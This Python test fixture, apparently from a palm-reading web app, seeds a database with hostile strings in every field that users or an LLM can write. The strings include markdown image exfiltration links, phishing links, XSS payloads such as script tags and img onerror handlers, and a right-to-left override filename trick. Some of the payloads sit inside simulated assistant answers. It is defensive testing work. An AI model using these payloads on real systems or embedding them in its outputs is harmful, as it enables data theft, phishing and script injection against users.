"""Hostile strings, and a world made of them: every field a person, another person or the
LLM can write (e-mail addresses, filenames, reading texts and notes, thread titles, folders,
tags, chat messages, LLM answers, share lists and notices, audit entries) holds one.

Each string carries a marker (``zq`` and a number) that survives escaping, so a test can
find every element it reached. The exfil address is a closed port on this machine: a
request to it proves that something was rendered as markup, and goes nowhere.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta

from cryptography.fernet import MultiFernet
from sqlalchemy.orm import Session, sessionmaker

from palm import chat
from palm.accounts import create_user, users
from palm.chat.messages import add_message
from palm.db import transaction
from palm.explore import set_shows_email, shares
from palm.infra import AuditAction, Outcome, record
from palm.models import Interpretation, Reading, ReadingShare, User
from palm.vocabulary import Role
from tests.explore.data import BASE_TIME, ReadingSpec, add_reading

EXFIL_HOST = "127.0.0.1:9"
EXFIL = f"http://{EXFIL_HOST}/exfil?d=secret"
MARKER = "zq"

#: Short enough for every field (filenames, titles ≤ 120, folders ≤ 64).
CORPUS: dict[str, str] = {
    "image": f"![zq1]({EXFIL})",
    "link": f"[zq2 verify your account](http://{EXFIL_HOST}/phish)",
    "html": "<img src=x onerror=alert(1)>zq3",
    "script": "<script>alert('zq4')</script>",
    "emphasis": "**zq5** __bold__ *em* ~~gone~~ `code`",
    "latex": "$zq6^2$ and $$x$$",
    "directives": ":red[zq7] :material/warning: :streamlit:",
    "emoji": ":smile: :+1: zq8",
    "autolinks": f"zq9 {EXFIL} www.evil.co ana@evil.co",
    "rtl": "zq10 \u202egnp.exe",
    "lines": "zq11\n# heading\n- item\n> quote",
}
LONG = "zq12 " + "A" * 1500
#: A tag is one lower-case word of at most 32 characters.
TAG = f"![zq13]({EXFIL})"[:32]
#: Addresses from before e-mails were validated (sign-up refuses both now).
PHISHER = f"[zq14 verify](http://{EXFIL_HOST}/phish)@evil.co"
IMG_MAIL = "<img/src=x/onerror=alert(7)>zq15@evil.co"
EVERYTHING = "\n".join([*CORPUS.values(), LONG])
PASSWORD = "correct horse battery staple"


@dataclass(frozen=True)
class HostileWorld:
    """Who and what was seeded: Ana views it all, the phisher shared with her."""

    ana: int
    admin: int
    analyst: int
    phisher: int
    readings: list[int]  # Ana's finished readings, one per corpus string in its filename
    failed: int
    queued: int
    shared: int  # the phisher's reading, shared with Ana
    thread: int


def legacy_account(session: Session, email: str) -> int:
    """An account whose address was accepted before validation (written as it was then)."""
    user = User(email=email, password_hash=users.HASHER.hash(PASSWORD), role=Role.USER)
    session.add(user)
    session.flush()
    return user.id


def _hostile_reading(session: Session, owner: int, filename: str, day: int) -> int:
    reading_id = add_reading(
        session,
        ReadingSpec(owner, created_at=BASE_TIME + timedelta(days=day), filename=filename),
    )
    reading = session.get_one(Reading, reading_id)
    reading.summary = filename
    reading.analysis = {**(reading.analysis or {}), "warnings": [CORPUS["image"], LONG]}
    for interpretation in session.query(Interpretation).filter_by(reading_id=reading_id):
        interpretation.title = CORPUS["link"]
        interpretation.text = EVERYTHING
        interpretation.per_line = {"heart": CORPUS["html"], "head": CORPUS["image"]}
    return reading_id


def _thread(session: Session, cipher: MultiFernet, ana: int, reading: int) -> int:
    thread = chat.create_conversation(session, cipher, ana, reading_id=reading)
    chat.rename(session, cipher, ana, thread.id, CORPUS["image"])
    chat.move_to_folder(session, ana, thread.id, CORPUS["link"])
    chat.set_tags(session, ana, thread.id, [TAG])
    add_message(session, cipher, thread, "user", EVERYTHING)
    add_message(session, cipher, thread, "assistant", EVERYTHING, engine="llm:stub")
    note = CORPUS["autolinks"]  # a note is at most 255 characters (PostgreSQL holds it to that)
    add_message(session, cipher, thread, "assistant", CORPUS["image"], engine="llm:stub", note=note)
    pinned = chat.create_conversation(session, cipher, ana, title=CORPUS["html"])
    chat.set_pinned(session, ana, pinned.id, True)
    return thread.id


def seed_hostile(factory: sessionmaker[Session], cipher: MultiFernet) -> HostileWorld:
    """Write the hostile world into an empty, migrated database."""
    with transaction(factory) as session:
        admin = create_user(session, "adam@example.com", PASSWORD, Role.ADMIN).id
        ana = create_user(session, "ana@example.com", PASSWORD, Role.USER).id
        analyst = create_user(session, "ann@example.com", PASSWORD, Role.ANALYST).id
        phisher = legacy_account(session, PHISHER)
        img_mail = legacy_account(session, IMG_MAIL)
        readings = [
            _hostile_reading(session, ana, text, day) for day, text in enumerate(CORPUS.values())
        ]
        failed = add_reading(session, ReadingSpec(ana, status="failed", filename=CORPUS["link"]))
        failed_row = session.get_one(Reading, failed)
        failed_row.error_code, failed_row.error_message = "NO_HAND", CORPUS["image"]
        queued = add_reading(session, ReadingSpec(ana, status="queued", filename=CORPUS["html"]))
        shared = _hostile_reading(session, phisher, CORPUS["image"], 30)
        shares.share_reading(session, phisher, shared, "ana@example.com")
        session.add(ReadingShare(reading_id=readings[0], owner_id=ana, recipient_id=img_mail))
        thread = _thread(session, cipher, ana, readings[0])
        record(
            session,
            actor=PHISHER,
            action=AuditAction.SIGN_UP,
            outcome=Outcome.REJECTED,
            target=IMG_MAIL,
            detail=CORPUS["script"],
        )
    set_shows_email(factory, None, phisher, True)
    return HostileWorld(ana, admin, analyst, phisher, readings, failed, queued, shared, thread)
